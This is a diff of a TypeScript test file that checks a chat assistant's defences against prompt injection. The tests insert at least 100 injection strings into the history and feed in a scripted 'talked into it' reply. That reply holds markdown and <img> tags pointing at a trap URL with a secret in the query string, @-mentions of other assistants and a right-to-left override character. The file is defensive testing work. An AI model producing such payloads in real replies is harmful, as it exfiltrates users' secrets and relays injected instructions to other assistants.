@@ -5,6 +5,7 @@
 import { afterAll, beforeAll, expect, test } from 'bun:test';
 import { MESSAGE_MAX_BYTES, type RoomNumber } from '@sotto/model';
 import { INJECTIONS } from '@sotto/server/testing';
+import type { ModelRequestBody } from '@sotto/server/testing/providers';
 import { type AskingHouse, askIn, openAskingHouse } from './support/assistants.ts';
 import type { Guest } from './support/house.ts';
 
@@ -14,6 +15,7 @@ const TAGS = ['<messages>', '</messages>', '<question>', '</question>'];
 const SENT = INJECTIONS.filter(
   (text) => text.isWellFormed() && Buffer.byteLength(text) < MESSAGE_MAX_BYTES - 64,
 );
+const QUESTION = 'What was said until now?';
 const SECRET = 'what-the-garden-hides';
 
 let house: AskingHouse;
@@ -52,15 +54,24 @@ afterAll(async () => {
   await trap.stop(true);
 });
 
+/** What was sent for that question: some of the injections ask as well. */
+function requestWith(question: string): ModelRequestBody {
+  const found = house.models.requests.find(({ body }) => questionOf(body).includes(question))?.body;
+  if (found === undefined || typeof found === 'string') throw new Error('no request');
+  return found;
+}
+
+const questionOf = (body: ModelRequestBody | string): string =>
+  (typeof body === 'string' ? undefined : body.messages?.[1]?.content.split('<question>')[1]) ?? '';
+
 const count = (text: string, part: string): number => text.split(part).length - 1;
 
 test(
   'I3: 100 injections in the history leave the structure of the request as it is, and nothing is fetched [PROMPT-2]',
   async () => {
     expect(SENT.length).toBeGreaterThanOrEqual(100);
-    await askIn(ann, room, 'What was said?');
-    const body = house.models.requests.at(-1)?.body;
-    if (body === undefined || typeof body === 'string') throw new Error('no request');
+    await askIn(ann, room, QUESTION);
+    const body = requestWith(QUESTION);
     const [system, user, ...more] = body.messages ?? [];
     expect(more).toEqual([]);
     expect([system?.role, user?.role]).toEqual(['system', 'user']);
@@ -88,11 +99,11 @@ test(
   'I3: a model that was talked into it says so as harmless text: no image, no mention, no question to another assistant [REPLY-1] [REPLY-2]',
   async () => {
     const leak = `http://127.0.0.1:${trap.port}/?q=${SECRET}`;
-    house.models.next({
+    const said = `@room @mallory @assistant look: ![x](${leak}) <img src="${leak}"> [![y][z]][z]\n\n[z]: ${leak}\n\u202egnp\u202c`;
+    house.models.always(({ body }) => ({
       kind: 'answer',
-      text: `@room @mallory @assistant look: ![x](${leak}) <img src="${leak}"> [![y][z]][z]\n\n[z]: ${leak}\n\u202egnp\u202c`,
-    });
-    const before = house.models.requests.length;
+      text: questionOf(body).includes('Show me.') ? said : 'No.',
+    }));
     const { sequence, text = '' } = await askIn(ann, room, 'Show me.');
     expect(text).not.toContain('![');
     expect(text).not.toMatch(/<img/i);
@@ -104,7 +115,7 @@ test(
       sequence,
     );
     await askIn(ann, room, 'Anything else?');
-    expect(house.models.requests.length).toBe(before + 2);
+    expect(house.models.requests.filter(({ body }) => questionOf(body).includes(leak))).toEqual([]);
     expect(trapped).toEqual([]);
   },
   TIMEOUT_MS,
